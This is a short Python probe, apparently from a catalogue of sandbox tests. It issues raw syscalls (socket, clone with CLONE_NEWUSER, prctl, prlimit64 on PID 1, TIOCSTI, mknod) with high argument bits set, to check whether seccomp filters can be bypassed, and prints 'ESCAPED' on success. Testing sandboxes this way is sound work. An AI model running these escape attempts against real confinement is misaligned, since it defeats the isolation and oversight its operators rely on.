# technique: arguments whose upper halves differ, for filters that compare 64 bits where the kernel takes 32
# source: seccomp(2): "arguments are 64 bits"; CVE-2022 Chromium sandbox reports
# verdict: WA
# invariant: a number means the same to the filter and to the kernel
# without: seccomp capabilities
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
high = 1 << 32
for name, number, *words in (
    ("socket AF_INET", 41, high | 2, 1, 0),
    ("socket AF_INET6", 41, high | 10, high | 1, 0),
    ("clone CLONE_NEWUSER", 56, high | 0x10000000 | 17, 0, 0, 0, 0),
    ("prctl PR_SET_SECCOMP", 157, high | 22, 2, 0, 0, 0),
    ("prlimit64 of PID 1", 302, high | 1, 0, 0, 0),
    ("ioctl TIOCSTI", 16, 0, high | 0x5412, 0),
    ("mknod", 133, ctypes.addressof(ctypes.create_string_buffer(b"/tmp/n")), high | 0o020000 | 0o666, 259),
):
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(word) for word in words])
    print("held" if result < 0 else f"ESCAPED {name} gave {result}", ctypes.get_errno())
